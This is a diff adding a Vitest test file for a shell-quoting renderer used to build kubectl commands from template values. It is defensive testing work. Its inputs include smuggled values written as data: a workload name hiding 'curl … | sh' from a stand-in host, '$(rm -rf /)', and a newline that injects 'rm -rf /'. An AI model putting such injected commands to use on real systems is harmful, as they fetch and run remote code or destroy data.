@@ -1,0 +1,55 @@
+import { execFileSync } from 'node:child_process';
+import { parse } from 'shell-quote';
+import { describe, expect, it } from 'vitest';
+import { renderShell, shellQuote } from '../../src/investigator/render-shell.js';
+import { ListValue, NameValue } from '../../src/toolsets/template-values.js';
+
+describe('renderShell', () => {
+  it('shows an invalid name as one quoted word instead of running what it hides (the issue repro)', () => {
+    const command = renderShell('kubectl -n {{namespace}} set resources deployment/{{workload}}', {
+      namespace: new NameValue('devtools'),
+      workload: new NameValue('code-complete; curl -s http://203.0.113.9/x | sh; echo '),
+    });
+    expect(command).toBe(
+      "kubectl -n devtools set resources deployment/'<invalid name: code-complete; curl -s http://203.0.113.9/x | sh; echo >'",
+    );
+    expect(parse(command).filter((token) => typeof token === 'object')).toEqual([]);
+  });
+
+  it('quotes values from data as one word each, and a list as one word per item', () => {
+    const command = renderShell('kubectl -n {{namespace}} delete pod {{pods}} -c {{container}}', {
+      namespace: 'ml',
+      pods: new ListValue(['a', 'b c']),
+      container: '$(rm -rf /)',
+    });
+    expect(parse(command)).toEqual(['kubectl', '-n', 'ml', 'delete', 'pod', 'a', 'b c', '-c', '$(rm -rf /)']);
+  });
+
+  it('keeps a value inside the quotes it stands in', () => {
+    // A real POSIX shell is the judge of what ends up in the argument.
+    const value = 'a"$(x)`y`\\';
+    expect(execFileSync('sh', ['-c', renderShell(`printf '%s' "{{v}}"`, { v: value })], { encoding: 'utf8' })).toBe(
+      value,
+    );
+    expect(parse(renderShell(`grep -E '{{v}}|Pending'`, { v: "o'brien" }))).toEqual(['grep', '-E', "o'brien|Pending"]);
+    expect(parse(renderShell(`grep -E '{{nodes}}'`, { nodes: new ListValue(['a.b', 'c']) }))).toEqual([
+      'grep',
+      '-E',
+      'a\\.b|c',
+    ]);
+  });
+
+  it('cannot end a comment early: a newline in a value stays on the comment line', () => {
+    const command = renderShell('# PromQL: x{namespace="{{namespace}}"}\nkubectl get pods', {
+      namespace: 'a\nrm -rf /',
+    });
+    expect(command.split('\n')).toHaveLength(2);
+    expect(command.split('\n')[1]).toBe('kubectl get pods');
+  });
+
+  it('leaves plain words bare and single-quotes the rest', () => {
+    expect(shellQuote('gpu-node-1.ec2.internal')).toBe('gpu-node-1.ec2.internal');
+    expect(shellQuote("it's")).toBe(`'it'\\''s'`);
+    expect(shellQuote('')).toBe("''");
+  });
+});
